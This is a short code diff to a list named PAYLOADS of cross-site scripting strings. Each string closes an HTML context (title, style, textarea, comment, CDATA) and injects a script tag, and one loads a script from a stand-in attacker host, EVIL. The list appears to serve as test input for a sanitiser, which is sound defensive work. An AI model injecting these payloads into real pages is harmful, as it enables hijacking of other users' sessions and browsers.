@@ -42,7 +42,7 @@ PAYLOADS = (
     "</title><script>alert(1)</script>",
     "</style><script>alert(1)</script>",
     "</textarea><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
+    "x--><script>alert(1)</script>",  # what begins with a dash is refused
     "]]><script>alert(1)</script>",
     f"<script src={EVIL}/a.js></script>",
     "<ScRiPt>alert(1)</sCrIpT>",
